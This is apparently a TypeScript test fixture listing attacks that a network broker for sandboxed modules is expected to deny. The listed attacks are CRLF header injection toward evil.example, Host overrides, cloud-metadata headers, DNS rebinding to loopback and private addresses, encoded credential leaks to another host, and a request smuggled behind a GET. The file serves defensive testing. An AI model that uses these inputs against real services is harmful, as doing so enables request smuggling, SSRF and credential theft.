import type { FetchInit } from "#core/contract/module.ts";
import { answerJson, POLICY, SECRET, WRITABLE } from "./broker-world.ts";
import type { Exchange } from "./exchange.ts";

const HOME = "https://api.example.com/v1/x";
const NOT_SENT = { ends: "denied", reached: 0 } as const;

function sends(id: string, attack: string, init: FetchInit, policy = POLICY): Exchange {
  return { id, attack, ...NOT_SENT, go: (world) => world.ask(HOME, init, policy) };
}

function setsHeader(id: string, name: string, value = "x"): Exchange {
  return sends(id, `the header ${name} set by a module`, { headers: { [name]: value } });
}

function leaks(id: string, form: string, leaked: string): Exchange[] {
  const encoded = encodeURIComponent(leaked);
  const asked: readonly [string, string, FetchInit][] = [
    ["the query", `${HOME}?k=${encoded}`, {}],
    ["the path", `${HOME}/${encoded.replaceAll(/%(?:2f|2e|5c)/gi, "")}`, {}],
    ["a header", HOME, { headers: { "x-note": leaked } }],
    ["the body", HOME, { method: "POST", body: JSON.stringify({ k: leaked }) }],
    ["another host", `https://other.example.com/?k=${encoded}`, {}],
  ];
  return asked.map(([where, url, init]) => ({
    id,
    attack: `a module that learnt the credential puts it, ${form}, into ${where}`,
    ...NOT_SENT,
    go: (world) => world.ask(url, init, WRITABLE),
  }));
}

/** What modules try, before anything has left. */
export const REQUEST_EXCHANGES: readonly Exchange[] = [
  {
    id: "NET-OK",
    attack: "a declared request",
    ends: "ok",
    reached: 1,
    go: (world) => world.ask(HOME),
    also: (_, { seen }) =>
      seen[0]?.headers.authorization === `Bearer ${SECRET}` ? undefined : "the credential was not sent",
  },
  setsHeader("NET-050", "X-A", "a\r\nHost: evil.example"),
  setsHeader("NET-051", "Host", "evil.example"),
  setsHeader("NET-052", "Transfer-Encoding", "chunked"),
  setsHeader("NET-053", "Authorization"),
  setsHeader("NET-054", "Metadata-Flavor", "Google"),
  setsHeader("NET-055", "X A:"),
  sends("NET-056", "a method that is not declared", { method: "POST", body: "x" }),
  sends("NET-057", "a body of 300 KB", { method: "POST", body: "x".repeat(300_000) }, WRITABLE),
  {
    id: "NET-058",
    attack: "a name that leads to this machine",
    ...NOT_SENT,
    go: (world) => (world.resolveTo("127.0.0.1"), world.ask(HOME)),
  },
  {
    id: "NET-059",
    attack: "a name that leads to a public and a private address",
    ...NOT_SENT,
    go: (world) => (world.resolveTo("93.184.216.34", "10.0.0.1"), world.ask(HOME)),
  },
  {
    id: "NET-060",
    attack: "a name that leads nowhere",
    ends: "unreachable",
    reached: 0,
    go: (world) => (world.resolveTo(), world.ask(HOME)),
  },
  {
    id: "NET-061",
    attack: "a name that leads to 0.0.0.0",
    ...NOT_SENT,
    go: (world) => (world.resolveTo("0.0.0.0"), world.ask(HOME)),
  },
  {
    id: "NET-062",
    attack: "a name whose address changes after it was checked",
    ends: "ok",
    reached: 1,
    go: (world) => {
      world.answerWith((_, response) => (world.resolveTo("127.0.0.1"), answerJson(response, {})));
      return world.ask(HOME);
    },
    also: (_, { connected }) =>
      connected.every(({ address }) => address === "93.184.216.34") ? undefined : "the connection went elsewhere",
  },
  {
    id: "NET-062b",
    attack: "one request asks for the name once",
    ends: "ok",
    reached: 1,
    go: (world) => world.ask(HOME),
    also: (_, { lookups }) => (lookups.length === 1 ? undefined : `${lookups.length} lookups`),
  },
  {
    id: "NET-062c",
    attack: "a pinned connection still names the declared host",
    ends: "ok",
    reached: 1,
    go: (world) => world.ask(HOME),
    also: (_, { seen }) => (seen[0]?.host === "api.example.com" ? undefined : `the host is ${seen[0]?.host}`),
  },
  ...leaks("SEC-002", "as it is", SECRET),
  ...leaks("SEC-002", "reversed", SECRET.split("").reverse().join("")),
  ...leaks("SEC-002", "in base64", Buffer.from(SECRET).toString("base64url")),
  ...leaks("SEC-002", "in hexadecimal", Buffer.from(SECRET).toString("hex")),
  ...[
    "Cookie",
    "Connection",
    "Upgrade",
    "Proxy-Authorization",
    "Forwarded",
    "TE",
    "Trailer",
    "Expect",
    "Keep-Alive",
  ].map((name) => setsHeader("a header of the connection", name)),
  ...["X-Forwarded-Host", "X-HTTP-Method-Override", "X-Method-Override", "X-Original-URL", "X-Host", "X-Real-IP"].map(
    (name) => setsHeader("a header that proxies believe", name),
  ),
  ...["X-Aws-Ec2-Metadata-Token", "X-Api-Key", "X-Auth-Token", "X-Vault-Token", "X-Session-Id", "X-CSRF-Token"].map(
    (name) => setsHeader("a header of identity", name),
  ),
  setsHeader("a header's value", "Accept", "a\u0000b"),
  setsHeader("a header's value", "Accept", "é"),
  setsHeader("a header's value", "Accept", "x".repeat(5_000)),
  sends("too many headers", "forty headers", {
    headers: Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`x-n${index}`, "1"])),
  }),
  sends("a GET with a body", "a body smuggled behind a GET", { body: "GET /admin HTTP/1.1\r\n\r\n" }),
];
